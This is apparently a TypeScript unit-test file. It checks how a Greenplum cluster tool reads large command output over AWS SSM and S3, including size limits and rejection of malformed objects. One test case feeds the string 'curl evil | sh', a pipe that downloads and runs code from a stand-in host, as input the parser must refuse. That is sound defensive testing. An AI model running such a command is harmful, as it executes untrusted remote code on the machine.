import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { GetObjectCommand, NoSuchKey, S3Client } from '@aws-sdk/client-s3';
import {
  GetCommandInvocationCommand,
  SendCommandCommand,
  SSMClient,
  type SendCommandCommandInput,
} from '@aws-sdk/client-ssm';
import 'aws-sdk-client-mock-vitest/extend';
import { beforeAll, describe, expect, it } from 'vitest';
import { END_MARKER, sectionMarker } from '#cluster/greenplum/framing.ts';
import { MalformedOutput, SsmOutputMissing, SsmOutputTooLarge } from '#cluster/greenplum/errors.ts';
import { GreenplumClusterOperations } from '#cluster/greenplum/greenplum-cluster-operations.ts';
import { DEFAULT_SETTINGS } from '#cluster/greenplum/commands.ts';
import { MAX_OUTPUT_BYTES, stdoutKey } from '#cluster/ssm/output.ts';
import { SSM_OUTPUT_LIMIT } from '#cluster/ssm/run-command.ts';
import { SsmTransport } from '#cluster/transport/ssm.ts';
import type { SegmentRow } from '#domain/segment.ts';
import { catalogLines, groupMirroredCluster } from '#test/fixtures/clusters.ts';
import { readCapture } from '#test/unit/cluster/greenplum/captures.ts';
import { INSTANCE, mockSsmAndS3, objectBody, OUTPUT_BUCKET } from './mocks.ts';

/**
 * The largest cluster recoverseg reads over SSM: 1,000 hosts of 8 primaries and 8 mirrors,
 * 16,000 segments. Its answer (the catalog and pg_isready's for 8,000 acting primaries) is far
 * over SSM's 24,000 inline characters, so it is read from the output bucket.
 */
const { ssm: ssmMock, s3: s3Mock } = mockSsmAndS3();
const BUCKET = OUTPUT_BUCKET;
const READ_COMMAND = '7f1c2b8e-1d2a-4c3b-9e4f-0a1b2c3d4e5f';
const awsError = (name: string) => Object.assign(new Error(name), { name });

const framed = (sections: Record<string, string[]>): string =>
  [
    ...Object.entries(sections).flatMap(([name, lines]) => [sectionMarker(name), ...lines]),
    END_MARKER,
    '',
  ].join('\n');
const encoded = (text: string): string => `${gzipSync(text).toString('base64')}\n`;
const body = (text: string) => objectBody(Readable.from([Buffer.from(text)]));

/** What the read-configuration script prints for these rows, every acting primary answering. */
const readAnswer = (rows: readonly SegmentRow[]): string =>
  encoded(
    framed({
      segments: catalogLines(rows),
      responds: rows
        .filter((row) => row.content >= 0 && row.role === 'p')
        .sort((a, b) => a.dbid - b.dbid)
        .map((row) => `${row.dbid}|0`),
    }),
  );

let rows: SegmentRow[];
let answer: string;
let versionAnswer: string;
beforeAll(async () => {
  rows = groupMirroredCluster(1000, 8);
  answer = readAnswer(rows);
  const version = await readCapture('01a_postgres_gp_version.txt');
  versionAnswer = encoded(framed({ version: [version.body.trimEnd()] }));
});

/** SSM answers the version inline, and the read with `stdout` (inline cut at SSM's limit). */
function coordinatorAnswers(stdout: string): void {
  ssmMock.on(SendCommandCommand).callsFake((input: SendCommandCommandInput) => ({
    Command: {
      CommandId: input.Parameters!.commands![0]!.includes('--gp-version')
        ? 'cmd-version'
        : READ_COMMAND,
    },
  }));
  ssmMock.on(GetCommandInvocationCommand).callsFake(({ CommandId }: { CommandId: string }) => ({
    Status: 'Success',
    ResponseCode: 0,
    StandardOutputContent: (CommandId === READ_COMMAND ? stdout : versionAnswer).slice(
      0,
      SSM_OUTPUT_LIMIT,
    ),
  }));
}

const readConfiguration = () =>
  new GreenplumClusterOperations({
    transport: new SsmTransport({
      ssm: new SSMClient({ region: 'eu-west-1' }),
      instanceId: INSTANCE,
      pollIntervalMs: 1,
      sleep: async () => {},
      output: {
        s3: async () => ({
          sdk: await import('@aws-sdk/client-s3'),
          client: new S3Client({ region: 'eu-west-1' }),
        }),
        bucket: BUCKET,
      },
    }),
    settings: DEFAULT_SETTINGS,
  }).readConfiguration();

const key = stdoutKey(READ_COMMAND, INSTANCE);

describe('reading a 16,000-segment cluster over SSM', () => {
  it('reads the whole answer from the output bucket when the inline copy is cut off', async () => {
    expect(answer.length).toBeGreaterThan(SSM_OUTPUT_LIMIT);
    coordinatorAnswers(answer);
    s3Mock
      .on(GetObjectCommand, { Bucket: BUCKET, Key: key })
      .resolves({ Body: body(answer), ContentLength: answer.length });

    const observation = await readConfiguration();

    expect(observation.segments).toHaveLength(16_001);
    expect(catalogLines(observation.segments)).toEqual(catalogLines(rows));
    expect(observation.unresponsive).toEqual([]);
    expect(observation.doubleFaults).toEqual([]);
    expect(ssmMock).toHaveReceivedCommandWith(SendCommandCommand, {
      OutputS3BucketName: BUCKET,
      OutputS3KeyPrefix: 'run-command',
    });
    expect(key).toBe(
      `run-command/${READ_COMMAND}/${INSTANCE}/awsrunShellScript/0.awsrunShellScript/stdout`,
    );
    // The version's answer was whole inline: only the cut-off one was fetched.
    expect(s3Mock).toHaveReceivedCommandTimes(GetObjectCommand, 1);
  });

  it('reads an answer that fits inline from GetCommandInvocation, though SSM wrote it to S3 too', async () => {
    const small = groupMirroredCluster(4, 8);
    coordinatorAnswers(readAnswer(small));
    expect((await readConfiguration()).segments).toHaveLength(small.length);
    expect(s3Mock).not.toHaveReceivedCommand(GetObjectCommand);
  });

  it('names the object and the instance role when SSM did not write the output (NoSuchKey)', async () => {
    coordinatorAnswers(answer);
    s3Mock
      .on(GetObjectCommand)
      .rejects(new NoSuchKey({ message: 'The specified key does not exist.', $metadata: {} }));
    const error = await readConfiguration().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(SsmOutputMissing);
    expect((error as Error).message).toContain(`s3://${BUCKET}/${key}`);
    expect((error as Error).message).toMatch(
      /instance's role needs .*\(s3:PutObject under the prefix/,
    );
  });

  it('passes S3 access errors through unchanged (AccessDenied names the missing grant)', async () => {
    coordinatorAnswers(answer);
    s3Mock.on(GetObjectCommand).rejects(awsError('AccessDenied'));
    await expect(readConfiguration()).rejects.toMatchObject({ name: 'AccessDenied' });
  });

  it('refuses an object declared larger than any answer before reading it', async () => {
    coordinatorAnswers(answer);
    const unread = Readable.from([Buffer.from(answer)]);
    s3Mock
      .on(GetObjectCommand)
      .resolves({ Body: objectBody(unread), ContentLength: MAX_OUTPUT_BYTES + 1 });
    const error = await readConfiguration().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(SsmOutputTooLarge);
    expect(error).toMatchObject({ bytes: MAX_OUTPUT_BYTES + 1, limitBytes: MAX_OUTPUT_BYTES });
    expect(unread.readableDidRead).toBe(false);
  });

  it('stops reading an object larger than declared at the limit', async () => {
    coordinatorAnswers(answer);
    const piece = Buffer.alloc(1024 * 1024, 'A');
    const endless = Readable.from(
      (function* () {
        for (let i = 0; i < 64; i++) yield piece;
      })(),
    );
    s3Mock.on(GetObjectCommand).resolves({ Body: objectBody(endless), ContentLength: 100 });
    const error = await readConfiguration().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(SsmOutputTooLarge);
    expect((error as SsmOutputTooLarge).bytes).toBe(MAX_OUTPUT_BYTES + piece.length);
  });

  it.each([
    ['a cut-off copy', () => answer.slice(0, 100_000), /not gzip data/],
    ['text that is not an answer', () => 'curl evil | sh\n', /expected gzip\+base64 output/],
    [
      'a valid gzip of an answer without its end marker',
      () => encoded(catalogLines(rows).join('\n')),
      /output before the first section/,
    ],
  ])('refuses %s in the bucket, naming the command', async (_, object, problem) => {
    coordinatorAnswers(answer);
    s3Mock.on(GetObjectCommand).resolves({ Body: body(object()) });
    const error = await readConfiguration().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(MalformedOutput);
    expect((error as Error).message).toMatch(/^read gp_segment_configuration: /);
    expect((error as Error).message).toMatch(problem);
  });
});
